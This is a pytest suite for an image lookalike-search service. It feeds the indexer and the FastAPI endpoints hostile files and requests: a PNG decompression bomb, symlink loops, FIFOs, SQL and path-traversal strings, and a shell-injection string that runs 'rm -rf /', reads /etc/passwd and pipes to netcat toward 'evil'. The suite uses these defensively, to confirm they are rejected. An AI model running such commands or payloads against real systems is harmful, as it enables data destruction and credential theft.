"""Hostile input end to end, on the real encoder and the real embedded Qdrant store.

Catalog files go through `SearchService.index`: every bad file is skipped with a reason a shop owner
can act on, every odd-but-valid one is indexed, and the index is left intact (count, ids, re-runs).
Requests go through the FastAPI app: a caller's mistake is a 4xx with a readable detail, never a 500.
Broken stores (a collection deleted underneath, another encoder) end in clear errors.
"""

from __future__ import annotations

import contextlib
import io
import json
import os
import shutil
import struct
import threading
import zlib
from collections import Counter
from collections.abc import Iterator
from pathlib import Path

import numpy as np
import pytest
from fastapi.testclient import TestClient
from PIL import Image

from lookalike import ingest
from lookalike.api import create_app
from lookalike.catalog_service import CatalogService
from lookalike.config import Settings
from lookalike.encoders import Encoder
from lookalike.errors import SchemaMismatchError, StoreError
from lookalike.search import SearchService
from lookalike.store import Schema, open_store

KEY = "hostile-key"


# -- hostile files -------------------------------------------------------------------------------------
def _encoded(img: Image.Image, fmt: str, **kw: object) -> bytes:
    buf = io.BytesIO()
    img.save(buf, format=fmt, **kw)
    return buf.getvalue()


def _bomb_png(side: int = 30_000) -> bytes:
    """A valid PNG header claiming side×side pixels with a few-KB body."""

    def chunk(kind: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))

    ihdr = struct.pack(">IIBBBBB", side, side, 1, 0, 0, 0, 0)
    body = zlib.compress((b"\x00" * (1 + (side + 7) // 8)) * 16, 9)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", ihdr) + chunk(b"IDAT", body) + chunk(b"IEND", b"")


def _photo(seed: int, size: tuple[int, int] = (96, 96)) -> Image.Image:
    rng = np.random.default_rng(seed)
    return Image.fromarray(rng.integers(0, 255, (size[1], size[0], 3), dtype=np.uint8))


def _animated_gif() -> bytes:
    frames = [Image.new("RGB", (40, 40), c) for c in [(220, 30, 30), (30, 220, 30), (30, 30, 220)]]
    return _encoded(frames[0], "GIF", save_all=True, append_images=frames[1:], duration=80, loop=0)


def _broken_exif_jpeg() -> bytes:
    exif = Image.Exif()
    exif[0x0112] = 99  # no such orientation
    return _encoded(_photo(3), "JPEG", exif=exif)


LONG_NAME = "é" * 124 + "-xy.png"  # 255 bytes, the usual file-system maximum, multi-byte characters

# Valid but odd: each must be indexed (file name → bytes).
GOOD = {
    "png-named.jpg": lambda: _encoded(_photo(1), "PNG"),  # a valid image with the wrong extension
    "animated.gif": _animated_gif,
    "sixteen-bit.png": lambda: _encoded(Image.new("I;16", (48, 48), 40_000), "PNG"),
    "cmyk.jpg": lambda: _encoded(Image.new("CMYK", (48, 48), (0, 200, 30, 0)), "JPEG"),
    "broken-exif.jpg": _broken_exif_jpeg,
    "one-pixel.png": lambda: _encoded(Image.new("RGB", (1, 1), (250, 0, 0)), "PNG"),
    "strip.png": lambda: _encoded(Image.new("RGB", (20_000, 50), (0, 90, 200)), "PNG"),
    LONG_NAME: lambda: _encoded(_photo(2), "PNG"),
}

# Bad: each must be skipped, with these words in the reason (file name → (bytes, words)).
BAD = {
    "zero.png": (b"", "empty"),
    "notes.jpg": (b"this is a text file, not a photo\n", "not an image"),
    "page.png": (b"<!doctype html><html><body><script>alert(1)</script></body></html>", "not an image"),
    "bomb.png": (_bomb_png(), "over the limit"),
    "cut.jpg": (_encoded(_photo(4), "JPEG")[:400], "corrupt or truncated"),
    "cut.png": (_encoded(_photo(5), "PNG")[:300], "corrupt or truncated"),
}


@pytest.fixture
def tiny_catalog(catalog_copy: Path) -> Path:
    """The demo catalog cut down to Homewares (2 photos): quick to embed, real product images."""
    for folder in catalog_copy.iterdir():
        if folder.is_dir() and folder.name != "Homewares":
            shutil.rmtree(folder)
    return catalog_copy


def _ids_unique(service: SearchService) -> bool:
    ids = [p.id for p in service.store.iter_points()]
    return not [i for i, n in Counter(ids).items() if n > 1]


@pytest.fixture
def fifo_guard() -> Iterator[list[Path]]:
    """FIFOs registered here are opened for writing after 120 s, so a reader stuck on one gets EOF
    and the test fails on its assertions instead of hanging the run."""
    fifos: list[Path] = []

    def unblock() -> None:
        for f in fifos:
            with contextlib.suppress(OSError):  # ENXIO: no reader waiting, nothing to unblock
                os.close(os.open(f, os.O_WRONLY | os.O_NONBLOCK))

    timer = threading.Timer(120, unblock)
    timer.start()
    yield fifos
    timer.cancel()


def test_hostile_catalog_files_are_skipped_with_reasons_and_the_rest_indexed(
    service: SearchService, tiny_catalog: Path, fifo_guard: list[Path]
) -> None:
    folder = tiny_catalog / "Homewares"
    for name, make in GOOD.items():
        (folder / name).write_bytes(make())
    assert len(os.fsencode(LONG_NAME)) == 255
    for name, (data, _) in BAD.items():
        (folder / name).write_bytes(data)
    os.symlink("loop.png", folder / "loop.png")  # a file link that points at itself
    os.symlink("nowhere.png", folder / "dangling.png")
    os.symlink(folder, folder / "again")  # a folder link back up: never followed
    os.mkfifo(folder / "pipe.png")  # reading it would block forever
    fifo_guard.append(folder / "pipe.png")
    bad_name = os.fsencode(folder) + b"/caf\xe9-latin1.png"  # not UTF-8: as copied from an old disk
    with open(bad_name, "wb") as fh:
        fh.write(_encoded(_photo(6), "PNG"))

    report = service.index(tiny_catalog)

    failed = dict(report.failed)
    expected_bad = {
        **{f"Homewares/{n}": words for n, (_, words) in BAD.items()},
        "Homewares/loop.png": "symbolic links",
        "Homewares/dangling.png": "cannot be read",
        "Homewares/pipe.png": "not a regular file",
        "Homewares/caf\\xe9-latin1.png": "not valid UTF-8",
    }
    assert set(failed) == set(expected_bad), report.failed
    for rel, words in expected_bad.items():
        assert words in failed[rel], (rel, failed[rel])
    json.dumps(report.failed, ensure_ascii=False).encode("utf-8")  # prints and serialises anywhere
    good = 2 + len(GOOD)
    assert report.embedded == service.store.count() == good
    assert report.scanned == good + len(expected_bad)
    assert _ids_unique(service)
    for name in ("animated.gif", "cmyk.jpg", "strip.png", "broken-exif.jpg", LONG_NAME):
        hit = service.search_image((folder / name).read_bytes(), top_k=1)[0]  # its own pixels, not a blank
        assert hit.product.product_id == Path(name).stem and hit.score > 0.99

    again = service.index(tiny_catalog, prune=True)  # the index stays as it is
    assert (again.embedded, again.removed, again.unchanged) == (0, 0, good)
    assert set(dict(again.failed)) == set(expected_bad)
    assert service.store.count() == good


def test_files_vanishing_between_scan_and_read_are_reported(
    settings: Settings, encoder: Encoder, tiny_catalog: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    folder = tiny_catalog / "Vanish"
    folder.mkdir()
    for i in range(4):
        _photo(10 + i).save(folder / f"v{i}.png")
    real_scan = ingest.scan_catalog

    def scan_then_delete(*args: object, **kw: object):  # the file goes after the scan listed it
        found = real_scan(*args, **kw)
        (folder / "v0.png").unlink()
        return found

    monkeypatch.setattr(ingest, "scan_catalog", scan_then_delete)

    def delete_later(n: int) -> None:  # batch 3 (and v3 in batch 6) is only read after batch 1 is stored
        if n == 1:
            (folder / "v3.png").unlink()

    with SearchService(settings.model_copy(update={"batch_size": 1}), encoder=encoder) as svc:
        report = svc.index(tiny_catalog, after_batch=delete_later)
        failed = dict(report.failed)
        assert set(failed) == {"Vanish/v0.png", "Vanish/v3.png"}
        assert "disappeared before it could be read" in failed["Vanish/v0.png"]
        assert "does not exist" in failed["Vanish/v3.png"]
        assert report.embedded == svc.store.count() == 4  # 2 Homewares + v1 + v2
        monkeypatch.setattr(ingest, "scan_catalog", real_scan)
        again = svc.index(tiny_catalog, prune=True)
        assert (again.embedded, again.removed, again.failed) == (0, 0, [])
        assert svc.store.count() == 4 and _ids_unique(svc)


@pytest.mark.skipif(
    os.name != "posix" or os.geteuid() == 0,
    reason="runs as root: root reads files whatever their permission bits, so chmod 000 cannot make a "
    "file unreadable, and other users cannot run this interpreter under /root; folder read errors are "
    "covered by test_paths_too_long_to_open_are_skipped_and_never_pruned",
)
def test_unreadable_files_and_folders_are_skipped_and_never_pruned(
    service: SearchService, tiny_catalog: Path
) -> None:
    locked_dir = tiny_catalog / "Locked"
    locked_dir.mkdir()
    _photo(20).save(locked_dir / "kept.png")
    assert service.index(tiny_catalog).embedded == 3
    locked_file = tiny_catalog / "Homewares" / "white-parrot-cushion-1.png"
    locked_file.chmod(0)
    locked_dir.chmod(0)
    try:
        report = service.index(tiny_catalog, prune=True)
    finally:
        locked_file.chmod(0o644)
        locked_dir.chmod(0o755)
    failed = dict(report.failed)
    assert "permission denied" in failed["Homewares/white-parrot-cushion-1.png"].lower()
    assert "Permission denied" in failed["Locked/"]
    assert (report.removed, service.store.count()) == (0, 3)  # unreadable for now is not gone


def _deep_folder(root: Path, levels: int = 20) -> tuple[str, str]:
    """Nested 200-character folders, deeper than PATH_MAX (4096); an image at the bottom.

    Built through directory file descriptors, since no single path reaches that deep. Returns the
    relative paths of the first folder that cannot be opened and of the image.
    """
    names = [f"{i:02d}-" + "d" * 197 for i in range(levels)]
    fd = os.open(root, os.O_RDONLY)
    try:
        for name in names:
            os.mkdir(name, dir_fd=fd)
            nxt = os.open(name, os.O_RDONLY, dir_fd=fd)
            os.close(fd)
            fd = nxt
        img = os.open("deep.png", os.O_WRONLY | os.O_CREAT, 0o644, dir_fd=fd)
        os.write(img, _encoded(_photo(30), "PNG"))
        os.close(img)
    finally:
        os.close(fd)
    base = len(str(root.resolve()))
    first = next(i for i in range(levels) if base + sum(len(n) + 1 for n in names[: i + 1]) >= 4096)
    return "/".join(names[: first + 1]), "/".join([*names, "deep.png"])


def test_paths_too_long_to_open_are_skipped_and_never_pruned(
    service: SearchService, tiny_catalog: Path
) -> None:
    """A folder whose path exceeds PATH_MAX cannot be listed (even by root): it is reported, and an
    index --prune keeps the points of images under a folder it could not list."""
    unreadable, _ = _deep_folder(tiny_catalog / "Homewares")
    report = service.index(tiny_catalog, prune=True)
    folder = f"Homewares/{unreadable}/"
    assert folder in dict(report.failed)
    assert "File name too long" in dict(report.failed)[folder]
    assert report.embedded == service.store.count() == 2

    # a point stored for an image in there earlier must survive --prune while the folder is unreadable
    cushion = service.product("white-parrot-cushion")[0]
    rel = f"Homewares/{unreadable}/white-parrot-cushion-1.png"
    vec = service.embed_image(cushion.path)
    payload = {**cushion.payload(), "rel_path": rel, "product_id": "deep-cushion"}
    service.store.upsert([ingest.point_id(rel)], vec[None, :], [payload])
    again = service.index(tiny_catalog, prune=True)
    assert (again.removed, service.store.count()) == (0, 3)


# -- broken stores -------------------------------------------------------------------------------------
def test_collection_deleted_while_closed_reopens_empty_and_reindexes(
    settings: Settings, encoder: Encoder, tiny_catalog: Path
) -> None:
    with SearchService(settings, encoder=encoder) as svc:
        svc.index(tiny_catalog)
    shutil.rmtree(settings.store_dir)
    with pytest.raises(StoreError, match="nothing is indexed yet"):
        open_store(settings, None)  # read-only views (`lookalike info`) say so plainly
    with SearchService(settings, encoder=encoder) as svc, TestClient(create_app(svc, api_key="")) as client:
        health = client.get("/health")
        assert health.status_code == 200 and health.json()["points"] == 0
        r = client.post("/search/image", files={"file": ("q.png", _encoded(_photo(1), "PNG"))})
        assert r.status_code == 200 and r.json()["hits"] == []
        assert svc.index(tiny_catalog).embedded == 2


def test_collection_deleted_while_open_is_a_store_error(service: SearchService, tiny_catalog: Path) -> None:
    service.index(tiny_catalog)
    shutil.rmtree(service.settings.store_dir)
    try:
        with pytest.raises(StoreError, match=str(service.settings.store_dir)):
            CatalogService(service).add_images([("a.png", _encoded(_photo(1), "PNG"))], "Mugs")
    finally:
        with contextlib.suppress(Exception):  # flushing into the deleted folder fails too
            service.close()


def test_server_collection_deleted_while_open_is_a_store_error(settings: Settings, encoder: Encoder) -> None:
    s = settings.model_copy(update={"qdrant_url": ":memory:"})
    with SearchService(s, encoder=encoder) as svc:
        CatalogService(svc).add_images([("a.png", _encoded(_photo(1), "PNG"))], "Mugs")
        svc.store._client.delete_collection(s.collection)  # type: ignore[attr-defined]
        with pytest.raises(StoreError, match=s.collection):
            svc.categories()


@pytest.mark.parametrize(
    ("schema", "words"),
    [
        (Schema("imagebind", 1024), ["imagebind", "efficientnet-lite0", "LOOKALIKE_ENCODER"]),
        (Schema("efficientnet-lite0", 1024), ["1024-d", "1280-d"]),  # same name, another dimension
    ],
    ids=["other-encoder", "changed-dimension"],
)
def test_encoder_and_collection_mismatch_is_a_clear_503(
    settings: Settings, encoder: Encoder, schema: Schema, words: list[str]
) -> None:
    open_store(settings, schema).close()  # a collection made by something else
    with SearchService(settings, encoder=encoder) as svc:
        with pytest.raises(SchemaMismatchError):
            svc.info()
        with TestClient(create_app(svc, api_key="")) as client:
            health = client.get("/health")
            assert health.status_code == 503 and health.json()["status"] == "unavailable"
            r = client.post("/search/text", json={"text": "red cushion"})
            assert r.status_code == 503
            for w in words:
                assert w in r.json()["detail"] and w in health.json()["detail"]


# -- hostile requests ----------------------------------------------------------------------------------
@pytest.fixture(scope="module")
def client(demo_service: SearchService) -> Iterator[TestClient]:
    """A client over the shared demo index that turns server exceptions into 500s (as in production)."""
    with TestClient(create_app(demo_service, api_key=KEY), raise_server_exceptions=False) as c:
        yield c


PNG = _encoded(Image.new("RGB", (32, 32), (200, 30, 30)), "PNG")
JSON = {"content-type": "application/json"}
SQL = "' OR '1'='1'; DROP TABLE products; --"
SHELL = "$(rm -rf /); `cat /etc/passwd` | nc evil 1 &&"


def _image(**form: object) -> dict[str, object]:
    return {"files": {"file": ("q.png", PNG, "image/png")}, "data": form}


# (method, url, request kwargs, expected status, words in the detail)
BAD_REQUESTS = {
    # wrong content types and missing fields
    "image-as-json": ("POST", "/search/image", {"json": {"file": "x.png"}}, 422, "file"),
    "image-as-raw-bytes": (
        "POST",
        "/search/image",
        {"content": PNG, "headers": {"content-type": "image/png"}},
        422,
        "file",
    ),
    "image-text-plain": (
        "POST",
        "/search/image",
        {"content": b"hi", "headers": {"content-type": "text/plain"}},
        422,
        "file",
    ),
    "image-no-boundary": (
        "POST",
        "/search/image",
        {"content": b"x", "headers": {"content-type": "multipart/form-data"}},
        400,
        "boundary",
    ),
    "image-garbage-multipart": (
        "POST",
        "/search/image",
        {"content": b"\x00\xff" * 50, "headers": {"content-type": "multipart/form-data; boundary=b"}},
        400,
        "multipart",
    ),
    "image-file-as-text-field": ("POST", "/search/image", {"data": {"file": "not a file"}}, 422, "file"),
    "text-as-form": ("POST", "/search/text", {"data": {"text": "red"}}, 422, "dictionary"),
    "text-malformed-json": (
        "POST",
        "/search/text",
        {"content": b'{"text": "red"', "headers": JSON},
        422,
        "JSON",
    ),
    "text-not-utf8": (
        "POST",
        "/search/text",
        {"content": b'{"text": "\xff\xfe"}', "headers": JSON},
        400,
        "body",
    ),
    "text-lone-surrogate": (
        "POST",
        "/search/text",
        {"content": b'{"text": "\\ud800"}', "headers": JSON},
        422,
        "string",
    ),
    "text-infinite-top-k": (
        "POST",
        "/search/text",
        {"content": b'{"text": "red", "top_k": 1e400}', "headers": JSON},
        422,
        "integer",
    ),
    "text-missing": ("POST", "/search/text", {"json": {}}, 422, "text"),
    "text-null-body": ("POST", "/search/text", {"content": b"null", "headers": JSON}, 422, "body"),
    "text-list-body": ("POST", "/search/text", {"json": ["red"]}, 422, "dictionary"),
    "text-too-long": ("POST", "/search/text", {"json": {"text": "a" * 501}}, 422, "500"),
    "text-spaces-only": ("POST", "/search/text", {"json": {"text": " \t\n "}}, 422, "words"),
    "combined-no-text": ("POST", "/search/combined", _image(), 422, "text"),
    "combined-weight-nan": ("POST", "/search/combined", _image(text="red", weight="nan"), 422, "weight"),
    "add-json-instead-of-form": (
        "POST",
        "/products",
        {"json": {"category": "x"}, "headers": {"X-API-Key": KEY}},
        422,
        "files",
    ),
    "add-no-category": (
        "POST",
        "/products",
        {"files": {"files": ("a.png", PNG)}, "headers": {"X-API-Key": KEY}},
        422,
        "category",
    ),
    "put-on-search": ("PUT", "/search/image", {"content": b"x"}, 405, "Not Allowed"),
    # top_k and paging out of range
    "image-top-k-1e9": ("POST", "/search/image", _image(top_k=str(10**9)), 422, "1000"),
    "image-top-k-minus-1": ("POST", "/search/image", _image(top_k="-1"), 422, "greater than"),
    "image-top-k-huge": ("POST", "/search/image", _image(top_k="9" * 40), 422, "1000"),
    "text-top-k-1e9": ("POST", "/search/text", {"json": {"text": "red", "top_k": 10**9}}, 422, "1000"),
    "text-top-k-minus-1": (
        "POST",
        "/search/text",
        {"json": {"text": "red", "top_k": -1}},
        422,
        "greater than",
    ),
    "text-top-k-float": ("POST", "/search/text", {"json": {"text": "red", "top_k": 2.5}}, 422, "integer"),
    "similar-top-k-0": ("GET", "/products/white-hoodie/similar?top_k=0", {}, 422, "greater than"),
    "similar-top-k-1e9": ("GET", f"/products/white-hoodie/similar?top_k={10**9}", {}, 422, "1000"),
    "browse-limit-1e9": ("GET", f"/categories/Juices/products?limit={10**9}", {}, 422, "1000"),
    "browse-seed-minus-1": (
        "GET",
        "/categories/Juices/products?shuffle=true&seed=-1",
        {},
        422,
        "greater than",
    ),
    # unknown categories, SQL- and shell-looking strings: only labels, looked up and not found
    "image-unknown-category": ("POST", "/search/image", _image(category="Spaceships"), 404, "Spaceships"),
    "image-sql-category": ("POST", "/search/image", _image(category=SQL), 404, "DROP TABLE"),
    "image-shell-category": ("POST", "/search/image", _image(category=SHELL), 404, "rm -rf"),
    "image-nul-category": ("POST", "/search/image", _image(category="Juices\x00"), 404, "no category"),
    "text-sql-category": (
        "POST",
        "/search/text",
        {"json": {"text": "red", "category": SQL}},
        404,
        "DROP TABLE",
    ),
    "text-surrogate-category": (
        "POST",
        "/search/text",
        {"content": b'{"text": "red", "category": "\\udc80"}', "headers": JSON},
        404,
        "\\udc80",
    ),
    "combined-unknown-category": (
        "POST",
        "/search/combined",
        _image(text="red", category="Nope"),
        404,
        "Nope",
    ),
    "similar-unknown-category": ("GET", "/products/white-hoodie/similar?category=Nope", {}, 404, "Nope"),
    "similar-sql-id": ("GET", f"/products/{SQL}/similar", {}, 404, "DROP TABLE"),
    "similar-shell-negative": (
        "GET",
        "/products/white-hoodie/similar",
        {"params": {"negative": SHELL}},
        404,
        "rm -rf",
    ),
    "similar-empty-positive": ("GET", "/products/white-hoodie/similar?positive=", {}, 422, "empty"),
    "similar-empty-negative": ("GET", "/products/white-hoodie/similar?negative=", {}, 422, "empty"),
    "browse-sql-category": ("GET", f"/categories/{SQL}/products", {}, 404, "DROP TABLE"),
    "image-of-sql-id": ("GET", f"/products/{SQL}/image", {}, 404, "DROP TABLE"),
    "image-of-shell-id": ("GET", f"/products/{SHELL}/image", {}, 404, "rm -rf"),
    # ids with ../ and encoded variants (more in test_api.py): looked up, never opened
    "image-of-dotdot-id": ("GET", "/products/..%2F..%2F..%2Fetc%2Fpasswd/image", {}, 404, "etc/passwd"),
    "image-of-backslash-id": ("GET", "/products/..%5C..%5Cwindows%5Cwin.ini/image", {}, 404, "win.ini"),
    "image-of-overlong-utf8-dots": ("GET", "/products/%C0%AE%C0%AE%2Fetc/image", {}, 404, "no product"),
    "image-of-nul-id": ("GET", "/products/carrot-juice%00.png/image", {}, 404, "no product"),
    "image-point-dotdot": (
        "GET",
        "/products/carrot-juice/image?point=..%2F..%2Fetc%2Fpasswd",
        {},
        404,
        "no image",
    ),
    "image-of-empty-id": ("GET", "/products//image", {}, 422, "product_id"),
    "similar-of-empty-id": ("GET", "/products//similar", {}, 422, "product_id"),
}


@pytest.mark.parametrize(
    ("method", "url", "kwargs", "status", "words"), BAD_REQUESTS.values(), ids=BAD_REQUESTS
)
def test_bad_requests_get_a_clear_4xx_never_a_500(
    client: TestClient, method: str, url: str, kwargs: dict, status: int, words: str
) -> None:
    r = client.request(method, url, **kwargs)
    assert r.status_code == status, r.text
    detail = r.json()["detail"]
    assert words in (detail if isinstance(detail, str) else json.dumps(detail)), detail


@pytest.mark.parametrize("text", [SQL, SHELL, "<script>alert(1)</script>", "\x00\x01", "%s%n{0}{{}}"])
def test_sql_and_shell_looking_words_are_just_words(client: TestClient, text: str) -> None:
    before = client.get("/health").json()["points"]
    r = client.post("/search/text", json={"text": text, "top_k": 3})
    assert r.status_code in (200, 422), r.text  # searched for as words, or refused as having none
    assert client.get("/health").json()["points"] == before


@pytest.fixture
def writable(service: SearchService, tiny_catalog: Path) -> Iterator[tuple[TestClient, SearchService]]:
    service.index(tiny_catalog)
    with TestClient(create_app(service, api_key=KEY), raise_server_exceptions=False) as c:
        yield c, service


@pytest.mark.parametrize(
    "url",
    [
        "/products/",  # an empty id once matched every product: it deleted the whole index
        "/products/..%2F..%2F..%2Fetc%2Fpasswd",
        "/products/%2E%2E%2F%2E%2E%2Fetc%2Fpasswd",
        "/products/..%252F..%252Fetc",
        f"/products/{SQL}",
        f"/products/{SHELL}",
        "/products/*",
    ],
)
def test_deletes_of_hostile_ids_remove_nothing(writable: tuple[TestClient, SearchService], url: str) -> None:
    client, service = writable
    r = client.delete(url, headers={"X-API-Key": KEY})
    assert r.status_code in (404, 422), r.text
    assert service.store.count() == 2


def test_hostile_uploads_are_refused_or_stored_under_a_slug(
    writable: tuple[TestClient, SearchService],
) -> None:
    client, service = writable
    auth = {"X-API-Key": KEY}
    for name, (data, words) in BAD.items():
        r = client.post("/products", files={"files": (name, data)}, data={"category": "Mugs"}, headers=auth)
        assert r.status_code == 422 and words in r.json()["detail"], (name, r.text)
    bad_labels = [{"category": "Mugs", "product_id": "a\x7fb"}, {"category": "x" * 101}, {"category": " "}]
    for form in bad_labels:
        r = client.post("/products", files={"files": ("a.png", PNG)}, data=form, headers=auth)
        assert r.status_code == 422, (form, r.text)
    assert service.store.count() == 2
    assert not (service.settings.data_dir / "uploads").exists()

    odd_name = "../../" + "é" * 150 + "\u202e.png;rm -rf ~"
    r = client.post("/products", files={"files": (odd_name, PNG)}, data={"category": SQL}, headers=auth)
    assert r.status_code == 201, r.text
    saved = list((service.settings.data_dir / "uploads").rglob("*"))
    files = [p for p in saved if p.is_file()]
    assert len(files) == 1 and files[0].resolve().is_relative_to(service.settings.data_dir / "uploads")
    assert all(ch.isascii() and (ch.isalnum() or ch in "-.") for ch in files[0].name)
